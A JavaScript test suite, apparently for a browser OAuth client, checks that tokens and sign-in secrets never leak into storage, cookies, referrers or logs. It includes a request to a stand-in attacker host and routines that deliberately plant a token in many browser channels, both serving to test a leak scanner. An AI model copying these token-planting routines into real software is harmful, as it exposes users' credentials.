// What leaves the page and what stays in the browser: tokens in memory only, requests without cookies and referrer.
// After each test of this folder, all that its pages said and stored is held against the secrets that its servers saw
// (secrets.mjs). Here, that this finds what it is to find.

import assert from "node:assert/strict";
import { after, test } from "node:test";

import {
  authorizationResponse,
  everythingStored,
  handleCallback,
  logIn,
  openDemo,
  openSuite,
  PROBE,
  signIn,
} from "./harness.mjs";
import { BOTH, testIn } from "./modes.mjs";
import { secretsOf } from "./secrets.mjs";

const MEMORY_LIMIT = 256 * 1024;

const suite = await openSuite();
after(() => suite.close());

/** The rest is about the scan itself, and what is the page's alone: its memory, its preload, its crypto. */
const testInBoth = testIn(suite, BOTH);

testInBoth(
  "after signing in no store, cookie, history entry or element holds a token",
  suite.withPage(async ({ page, context }) => {
    await openDemo(page, suite);
    await signIn(page);
    await page.getByRole("button", { name: "Read my notes" }).click();
    await page.getByText("200 OK").waitFor();

    const tokens = suite.tokens();
    assert.equal(tokens.length, 2, "an access token and an ID token were issued");
    const cookies = await context.cookies(suite.url());
    const found = (await everythingStored(page)) + JSON.stringify(cookies);
    for (const token of tokens) {
      assert.ok(!found.includes(token));
      assert.ok(!found.includes(token.split(".")[2]), "nor the signature of one");
    }
    assert.equal(await page.evaluate(() => localStorage.length), 0);
    assert.equal(await page.evaluate(() => document.cookie), "");
  }),
);

testInBoth(
  "the callback page asks the authorization server once: for the token",
  suite.withPage(async ({ page }) => {
    await openDemo(page, suite);
    await signIn(page);
    const [callback] = suite.seen("page", "/callback?");
    const since = suite.exchanges.slice(suite.exchanges.indexOf(callback));
    const asked = since.filter(({ server }) => server === "as");
    assert.deepEqual(asked.map(({ method, path }) => `${method} ${path}`), ["POST /token"]);
    const code = new URL(callback.path, suite.url()).searchParams.get("code");
    assert.ok(code);
    for (const { headers } of suite.exchanges) assert.ok(!headers.referer?.includes(code));
  }),
);

testInBoth(
  "requests of the package carry no cookie and no referrer",
  suite.withPage(async ({ page, context }) => {
    await context.addCookies([{ name: "tracking", value: "1", url: suite.demo.issuer }]);
    await openDemo(page, suite);
    await signIn(page);
    await page.getByRole("button", { name: "Read my notes" }).click();
    await page.getByText("200 OK").waitFor();

    const inMode = (mode) => suite.exchanges.filter(({ headers }) => headers["sec-fetch-mode"] === mode);
    const sent = inMode("navigate").some(({ headers }) => headers.cookie?.includes("tracking"));
    assert.ok(sent, "the cookie is there to be sent");
    const own = inMode("cors").filter(({ server }) => server !== "page");
    const paths = new Set(own.map(({ path }) => path));
    for (const path of ["/.well-known/openid-configuration", "/jwks", "/token", "/notes"]) {
      assert.ok(paths.has(path), path);
    }
    for (const { path, headers } of own) {
      assert.equal(headers.cookie, undefined, path);
      assert.equal(headers.referer, undefined, path);
      // What Chromium sends for "no-store".
      if (["/token", "/notes"].includes(path)) assert.equal(headers["cache-control"], "no-cache", path);
    }
  }),
);

test(
  "neither log entries nor errors hold a token, code, state or verifier (next-auth CVE-2022-31186)",
  suite.withPage(async ({ page }) => {
    const callback = new URL(await authorizationResponse(page, suite));
    const [record] = await page.evaluate(() => Object.values(sessionStorage));
    const told = await page.evaluate(async () => {
      const kept = [];
      const client = await globalThis.openClient({ logger: (entry) => kept.push(entry) });
      const keep = (error) => kept.push(error, error.message, error.stack, String(error));
      await client.handleCallback();
      await client.fetch("https://attacker.example/").catch(keep);
      await client.signOutLocal();
      await client.getAccessToken().catch(keep);
      await client.handleCallback().catch(keep);
      return JSON.stringify(kept);
    });
    assert.match(told, /"event":"handleCallback"/);
    assert.match(told, /origin_not_allowed/);
    const code = callback.searchParams.get("code");
    const state = callback.searchParams.get("state");
    const longStrings = record.match(/[\w-]{40,}/g);
    assert.ok(longStrings.length >= 3, "state, nonce and verifier are in the record");
    for (const secret of [...suite.tokens(), code, state, ...longStrings]) assert.ok(!told.includes(secret));
  }),
);

test(
  "the scan knows every secret of a sign-in, and has material from every side",
  suite.withPage(async ({ page, context, records }) => {
    const callback = new URL(await authorizationResponse(page, suite));
    const [pending] = await page.evaluate(() => Object.values(sessionStorage));
    await handleCallback(page);
    const secrets = secretsOf(suite.exchanges);
    assert.equal(secrets.get(callback.searchParams.get("code")), "code");
    assert.equal(secrets.get(callback.searchParams.get("state")), "state");
    for (const token of suite.tokens()) assert.equal(secrets.get(token), "token");
    const kinds = pending.match(/[\w-]{40,}/g).map((value) => secrets.get(value));
    assert.deepEqual(new Set(kinds), new Set(["state", "nonce", "verifier"]));

    await page.evaluate(async () => {
      const client = await globalThis.openClient();
      await client.fetch("https://attacker.example/").catch(() => {});
    });
    await suite.leaks({ context, records });
    const channels = new Set(records.map(({ channel }) => channel.split(":").slice(0, 2).join(":")));
    for (const channel of ["log", "error", "event:signedIn", "event:stateChanged", "sessionStorage:wardkey", "history:"]) {
      assert.ok(channels.has(channel), channel);
    }
    const codes = records.filter(({ channel }) => channel === "error").map(({ text }) => text).join();
    assert.match(codes, /origin_not_allowed/);
  }),
);

/** Ways out of the page, each told the secret; `where` is what the scan calls them. */
const plants = {
  "console, in base64": { where: "console", leak: (secret) => console.info(btoa(JSON.stringify({ secret }))) },
  "console": { where: "console", leak: (secret) => console.log("debug", { nested: [secret] }) },
  "an error's message": { where: "error", leak: (secret) => new Error(`no good: ${secret}`) },
  "an error's property": { where: "error", leak: (secret) => Object.assign(new Error("no good"), { secret }) },
  "postMessage": { where: "message", leak: (secret) => window.postMessage({ secret }, location.origin) },
  "a BroadcastChannel": { where: "message", leak: (secret) => new BroadcastChannel("x").postMessage(new Map([[1, secret]])) },
  "a MessagePort": { where: "port", leak: (secret) => new MessageChannel().port1.postMessage([secret]) },
  "a message to the page": {
    where: "message",
    leak: async (secret) => {
      // The functions of this window are not watched.
      const frame = document.body.appendChild(document.createElement("iframe"));
      const { port1, port2 } = new MessageChannel();
      const heard = new Promise((resolve) => (port2.onmessage = resolve));
      frame.contentWindow.MessagePort.prototype.postMessage.call(port1, { secret });
      await heard;
      frame.remove();
    },
  },
  "sessionStorage": { where: "sessionStorage:k", leak: (secret) => sessionStorage.setItem("k", secret) },
  "sessionStorage, by name": { where: "sessionStorage:k", leak: (secret) => void (sessionStorage.k = secret) },
  "localStorage, for a moment": {
    where: "localStorage:k",
    leak: (secret) => {
      localStorage.setItem("k", secret);
      localStorage.removeItem("k");
    },
  },
  "a cookie": { where: "cookie:k", leak: (secret) => void (document.cookie = `k=${secret}; max-age=0`) },
  "history.state": { where: "history:", leak: (secret) => history.replaceState({ secret }, "") },
  "the URL of an entry": { where: "history:", leak: (secret) => history.pushState(null, "", `?k=${secret}`) },
  "IndexedDB": {
    where: "databases:rows",
    leak: async (secret) => {
      const request = indexedDB.open("planted");
      request.onupgradeneeded = () => request.result.createObjectStore("rows").put(secret, "k");
      await new Promise((resolve) => (request.onsuccess = resolve));
      request.result.close();
    },
  },
  "a cache": {
    where: "cached:",
    leak: async (secret) => (await caches.open("planted")).put(`/x?k=${secret}`, new Response(secret)),
  },
};

for (const [what, { where, leak }] of Object.entries(plants)) {
  test(
    `a token planted in ${what} is found`,
    suite.withPage(async ({ page, context, records }) => {
      await authorizationResponse(page, suite);
      await handleCallback(page);
      assert.deepEqual(await suite.leaks({ context, records }), []);
      await page.evaluate(leak, suite.tokens()[0]);
      const found = await suite.leaks({ context, records });
      assert.ok(found.includes(`token in ${where}`), `${found}`);
      // Not for the scan after this test.
      await page.evaluate(async () => {
        sessionStorage.clear();
        history.replaceState(null, "", location.pathname);
        await caches.delete("planted");
        await new Promise((resolve) => (indexedDB.deleteDatabase("planted").onsuccess = resolve));
      });
      records.length = 0;
    }),
  );
}

test(
  "linear memory after signing in is at most 256 KB",
  suite.withPage(async ({ page, context }) => {
    await context.addInitScript(() => {
      const memories = (globalThis.wasmMemories = []);
      const keep = ({ exports }) => {
        memories.push(...Object.values(exports).filter((value) => value instanceof WebAssembly.Memory));
      };
      for (const name of ["instantiate", "instantiateStreaming"]) {
        const original = WebAssembly[name];
        WebAssembly[name] = async (...parameters) => {
          const result = await original.apply(WebAssembly, parameters);
          keep(result.instance ?? result);
          return result;
        };
      }
    });
    await openDemo(page, suite);
    await signIn(page);
    const sizes = await page.evaluate(() => globalThis.wasmMemories.map(({ buffer }) => buffer.byteLength));
    assert.equal(sizes.length, 1);
    assert.ok(sizes[0] <= MEMORY_LIMIT, `${sizes[0]} bytes`);
  }),
);

test(
  "the engine is fetched once, by the preload",
  suite.withPage(async ({ page }) => {
    await openDemo(page, suite);
    assert.equal(suite.seen("page", "/wardkey.wasm").length, 1);
    assert.equal(suite.seen("page", "/config.json").length, 1);
  }),
);

/** As on a plain-http origin other than loopback. */
const withoutSubtle = (context) => context.addInitScript(() => delete Crypto.prototype.subtle);

test(
  "without crypto.subtle the authorize URL still has S256, and the ID token is refused",
  suite.withPage(async ({ page, context }) => {
    await withoutSubtle(context);
    await page.goto(suite.url(PROBE));
    const url = await page.evaluate(async () => {
      if (crypto.subtle) throw new Error("crypto.subtle is still there");
      const client = await globalThis.openClient();
      await client.prepare();
      return client.createAuthorizeUrl().url;
    });
    const { searchParams } = new URL(url);
    assert.equal(searchParams.get("code_challenge_method"), "S256");
    assert.match(searchParams.get("code_challenge"), /^[\w-]{43}$/);

    await page.goto(url);
    await logIn(page);
    await page.getByRole("button", { name: "Allow" }).click();
    await page.waitForURL(`**/${PROBE}?*`);
    const { code, status, query } = await handleCallback(page);
    assert.deepEqual({ code, status, query }, { code: "insecure_context", status: "anonymous", query: "" });
  }),
);

test(
  "without crypto.subtle the server accepts the verifier, as dangerouslySkipSignature shows",
  suite.withPage(async ({ page, context }) => {
    await withoutSubtle(context);
    await authorizationResponse(page, suite);
    const { sub, status } = await handleCallback(page, { options: { idToken: { dangerouslySkipSignature: true } } });
    assert.deepEqual({ sub, status }, { sub: "alice", status: "authenticated" });
  }),
);
